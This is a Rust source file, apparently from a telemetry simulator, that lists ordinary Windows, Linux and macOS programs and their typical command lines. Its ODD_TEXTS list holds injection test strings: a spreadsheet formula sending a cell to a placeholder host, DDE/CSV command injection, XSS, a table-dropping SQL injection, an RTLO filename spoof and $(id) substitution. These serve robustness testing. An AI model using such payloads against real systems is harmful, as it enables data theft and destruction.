//! What runs on the devices of a company on ordinary days, and the odd texts that real command lines and mails hold.

use crate::world::{Dice, FileFacts, vendor_file};

/// A program that is seen again and again.
#[derive(Debug)]
pub(super) struct Program {
    pub file: &'static str,
    pub folder: &'static str,
    pub size: i64,
    pub publisher: &'static str,
    pub product: &'static str,
    pub version: &'static str,
    /// `{user}` and `{n}` are filled in.
    pub commands: &'static [&'static str],
    pub parent: &'static str,
    /// Runs as the person at the device, not as the system.
    pub is_personal: bool,
    /// What it writes into, reads from or calls: a path, a host and its port.
    pub writes: &'static str,
    pub calls: (&'static str, i64),
}

impl Program {
    pub(super) fn facts(&self) -> FileFacts {
        vendor_file(self.file, self.folder, self.size, self.publisher)
    }
}

/// A program of that name, on any system.
pub(super) fn program(name: &str) -> Option<&'static Program> {
    [WINDOWS, LINUX, MAC].into_iter().flatten().find(|program| program.file == name)
}

/// All programs that are not an attacker's.
pub(super) fn all() -> impl Iterator<Item = &'static Program> {
    [WINDOWS, LINUX, MAC].into_iter().flatten()
}

/// The programs of an operating system.
pub(super) fn of_platform(os_platform: &str) -> &'static [Program] {
    match os_platform {
        "Linux" => LINUX,
        "macOS" => MAC,
        _ => WINDOWS,
    }
}

/// An odd text: right-to-left marks, control characters, formulas, escape sequences, other scripts.
pub(super) fn odd_text(dice: &mut Dice) -> &'static str {
    ODD_TEXTS[dice.below(ODD_TEXTS.len())]
}

/// A command line of the greatest length that Windows takes: 32,767 characters.
pub(super) fn longest_command(dice: &mut Dice) -> String {
    let mut text = "cmd.exe /d /c \"for %f in (".to_owned();
    while text.len() < COMMAND_CHARS_MAX - 40 {
        text.push_str(&format!("\"C:\\Data\\{}.txt\" ", dice.hex(16)));
    }
    text.push_str(") do @type %f\"");
    text
}

const COMMAND_CHARS_MAX: usize = 32_767;
const MICROSOFT: &str = "Microsoft Corporation";
const SYSTEM32: &str = "C:\\Windows\\System32";

const ODD_TEXTS: &[&str] = &[
    "=HYPERLINK(\"http://192.0.2.1/?q=\"&A1,\"Total\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "invoice\u{202e}fdp.exe",
    "line one\r\nline two\tafter a tab",
    "\u{1b}[31mred\u{1b}[0m \u{7} bell \u{0} nul",
    "{\"json\": [\"in\", 'text', \\\"escaped\\\"]}",
    "Prüfbericht für Ærø – 検査報告書 📎.docx",
    "Отчёт о проверке №7",
    "تقرير الفحص",
    "<script>alert(document.cookie)</script>",
    "'; DROP TABLE DeviceInfo; --",
    "a\u{301}\u{200b}\u{feff}zero width",
    "\u{2028}line separator\u{2029}",
    "C:\\path\\with \"quotes\" and `backticks` $(id) %PATH%",
];

const fn windows(file: &'static str, size: i64, parent: &'static str, commands: &'static [&'static str]) -> Program {
    Program {
        file,
        folder: SYSTEM32,
        size,
        publisher: MICROSOFT,
        product: "Microsoft Windows Operating System",
        version: "10.0.26100.1",
        commands,
        parent,
        is_personal: false,
        writes: "C:\\Windows\\Temp\\svc{n}.tmp",
        calls: ("update.microsoft.example", 443),
    }
}

static WINDOWS: &[Program] = &[
    windows(
        "svchost.exe",
        79_920,
        "services.exe",
        &[
            "svchost.exe -k netsvcs -p -s Schedule",
            "svchost.exe -k LocalService -p",
            "svchost.exe -k NetworkService -p -s Dnscache",
        ],
    ),
    windows("services.exe", 731_744, "wininit.exe", &["services.exe"]),
    windows("lsass.exe", 83_544, "wininit.exe", &["lsass.exe"]),
    windows("taskhostw.exe", 111_432, "svchost.exe", &["taskhostw.exe", "taskhostw.exe Install $(Arg0)"]),
    windows("conhost.exe", 1_040_384, "cmd.exe", &["conhost.exe 0xffffffff -ForceV1"]),
    windows(
        "msiexec.exe",
        176_128,
        "services.exe",
        &["msiexec.exe /V", "msiexec.exe /i C:\\Windows\\ccmcache\\{n}\\setup.msi /qn"],
    ),
    windows(
        "schtasks.exe",
        235_008,
        "cmd.exe",
        &["schtasks.exe /query /fo csv /v", "schtasks.exe /run /tn \"\\Inventory\\Daily\""],
    ),
    windows("reg.exe", 77_312, "cmd.exe", &["reg.exe query HKLM\\SOFTWARE\\Inventory /s"]),
    windows(
        "net.exe",
        59_392,
        "cmd.exe",
        &["net.exe use Z: \\\\fileserver\\shares /persistent:no", "net.exe time /domain"],
    ),
    windows("wscript.exe", 172_032, "svchost.exe", &["wscript.exe //B \\\\dc\\netlogon\\logon.vbs"]),
    Program {
        is_personal: true,
        ..windows(
            "rundll32.exe",
            71_680,
            "explorer.exe",
            &["rundll32.exe shell32.dll,Control_RunDLL", "rundll32.exe printui.dll,PrintUIEntry /ge"],
        )
    },
    Program { is_personal: true, ..windows("whoami.exe", 73_728, "cmd.exe", &["whoami.exe", "whoami.exe /groups"]) },
    Program {
        is_personal: true,
        ..windows(
            "cmd.exe",
            289_792,
            "explorer.exe",
            &["cmd.exe /c dir \\\\fileserver\\shares", "cmd.exe /c C:\\Tools\\sync.cmd {user}", "cmd.exe"],
        )
    },
    Program {
        folder: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
        ..windows(
            "powershell.exe",
            455_680,
            "svchost.exe",
            &[
                "powershell.exe -NoProfile -ExecutionPolicy RemoteSigned -File C:\\Tools\\inventory.ps1",
                "powershell.exe -Command Get-Service | Export-Csv C:\\Windows\\Temp\\services.csv",
            ],
        )
    },
    Program {
        folder: "C:\\Windows",
        is_personal: true,
        writes: "C:\\Users\\{user}\\Desktop\\notes{n}.txt",
        ..windows("explorer.exe", 5_100_000, "userinit.exe", &["explorer.exe", "C:\\Windows\\explorer.exe /factory"])
    },
    Program {
        file: "winword.exe",
        folder: "C:\\Program Files\\Microsoft Office\\root\\Office16",
        size: 1_920_000,
        product: "Microsoft Office",
        version: "16.0.19100.10",
        is_personal: true,
        writes: "C:\\Users\\{user}\\Documents\\draft{n}.docx",
        calls: ("officeapps.microsoft.example", 443),
        ..windows(
            "",
            0,
            "explorer.exe",
            &["\"WINWORD.EXE\" /n \"C:\\Users\\{user}\\Documents\\draft{n}.docx\" /o \"\""],
        )
    },
    Program {
        file: "excel.exe",
        folder: "C:\\Program Files\\Microsoft Office\\root\\Office16",
        size: 64_100_000,
        product: "Microsoft Office",
        version: "16.0.19100.10",
        is_personal: true,
        writes: "C:\\Users\\{user}\\Documents\\figures{n}.xlsx",
        calls: ("officeapps.microsoft.example", 443),
        ..windows("", 0, "explorer.exe", &["\"EXCEL.EXE\" \"C:\\Users\\{user}\\Documents\\figures{n}.xlsx\""])
    },
    Program {
        file: "outlook.exe",
        folder: "C:\\Program Files\\Microsoft Office\\root\\Office16",
        size: 43_700_000,
        product: "Microsoft Office",
        version: "16.0.19100.10",
        is_personal: true,
        writes: "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\att{n}.pdf",
        calls: ("outlook.office.example", 443),
        ..windows("", 0, "explorer.exe", &["\"OUTLOOK.EXE\" /recycle"])
    },
    Program {
        file: "msedge.exe",
        folder: "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
        size: 4_300_000,
        product: "Microsoft Edge",
        version: "141.0.3537.71",
        is_personal: true,
        writes: "C:\\Users\\{user}\\Downloads\\download{n}.pdf",
        calls: ("www.harbournews.example", 443),
        ..windows(
            "",
            0,
            "explorer.exe",
            &["\"msedge.exe\" --profile-directory=Default", "\"msedge.exe\" --type=renderer --lang=en-GB"],
        )
    },
    Program {
        file: "teams.exe",
        folder: "C:\\Program Files\\WindowsApps\\MSTeams",
        size: 880_000,
        product: "Microsoft Teams",
        version: "25290.205",
        is_personal: true,
        writes: "C:\\Users\\{user}\\AppData\\Local\\Packages\\MSTeams\\log{n}.txt",
        calls: ("teams.microsoft.example", 443),
        ..windows("", 0, "explorer.exe", &["\"teams.exe\" msteams:system-initiated"])
    },
];

const fn unix(file: &'static str, size: i64, parent: &'static str, commands: &'static [&'static str]) -> Program {
    Program {
        folder: "/usr/bin",
        publisher: "Distribution",
        product: "",
        version: "",
        writes: "/tmp/work.{n}",
        calls: ("packages.distribution.example", 443),
        ..windows(file, size, parent, commands)
    }
}

static LINUX: &[Program] = &[
    unix("bash", 1_446_024, "sshd", &["bash -c /opt/backup/run.sh", "-bash"]),
    unix("curl", 272_600, "bash", &["curl -fsS https://packages.distribution.example/index"]),
    unix("python3", 6_700_000, "systemd", &["python3 /opt/agent/collect.py --once"]),
    unix("sshd", 921_000, "systemd", &["sshd: {user} [priv]"]),
    unix("systemd", 1_840_000, "", &["/usr/lib/systemd/systemd --system"]),
];

static MAC: &[Program] = &[
    Program {
        folder: "/bin",
        is_personal: true,
        writes: "/Users/{user}/Desktop/notes{n}.txt",
        ..unix("zsh", 1_300_000, "Terminal", &["-zsh", "zsh -c ls"])
    },
    Program {
        folder: "/System/Applications/Utilities/Terminal.app/Contents/MacOS",
        is_personal: true,
        ..unix("Terminal", 2_200_000, "launchd", &["Terminal"])
    },
    Program { folder: "/sbin", ..unix("launchd", 620_000, "", &["/sbin/launchd"]) },
    Program {
        folder: "/Applications/Northlight.app/Contents/MacOS",
        is_personal: true,
        calls: ("www.harbournews.example", 443),
        ..unix("northlight", 3_900_000, "launchd", &["northlight --type=renderer"])
    },
];
